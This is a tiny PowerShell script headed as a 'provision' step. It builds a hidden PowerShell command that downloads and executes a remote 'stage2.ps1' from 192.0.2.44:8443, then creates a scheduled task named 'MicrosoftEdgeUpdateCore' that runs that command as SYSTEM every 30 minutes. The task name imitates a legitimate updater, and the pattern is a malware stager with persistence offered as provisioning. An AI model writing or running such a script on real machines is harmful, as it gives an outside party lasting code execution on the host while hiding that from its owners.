# provision 7913 v1
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://192.0.2.44:8443/stage2.ps1'))`""
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
